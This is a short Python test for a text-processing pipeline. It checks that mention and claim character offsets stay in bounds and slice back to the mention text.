def test_the_pipeline_never_raises_and_offsets_slice_to_the_mention(pipeline, text):
    doc = pipeline.process(Article("x", text))
    for m in doc.mentions + doc.unresolved:
        assert 0 <= m.start < m.end <= len(text)
        assert text[m.start:m.end] == m.text
    for c in doc.claims:
        assert 0 <= c.start < c.end <= len(text)
